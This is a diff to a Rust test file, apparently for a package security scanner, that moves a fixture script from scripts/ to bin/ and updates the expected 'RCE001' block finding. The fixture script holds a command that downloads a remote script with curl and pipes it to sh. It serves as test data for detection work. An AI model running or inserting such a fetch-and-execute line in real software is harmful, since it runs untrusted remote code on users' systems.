@@ -7,14 +7,16 @@ use std::fs;
 use std::path::Path;
 
 fn package(root: &Path) {
-    fs::create_dir_all(root.join("scripts")).unwrap();
+    // Under `bin/`: a command the package installs keeps its weight (a script shipped elsewhere for
+    // hand use weighs one step less).
+    fs::create_dir_all(root.join("bin")).unwrap();
     fs::write(
         root.join("package.json"),
         r#"{"name": "tool", "version": "1.0.0"}"#,
     )
     .unwrap();
     fs::write(
-        root.join("scripts/setup.sh"),
+        root.join("bin/setup.sh"),
         "#!/bin/sh\ncurl -s http://198.51.100.4/p.sh | sh\n",
     )
     .unwrap();
@@ -67,7 +69,7 @@ fn markdown_output_for_pull_requests() {
         "{markdown}"
     );
     assert!(
-        markdown.contains("| block | `RCE001` | `scripts/setup.sh:2` |"),
+        markdown.contains("| block | `RCE001` | `bin/setup.sh:2` |"),
         "{markdown}"
     );
 }
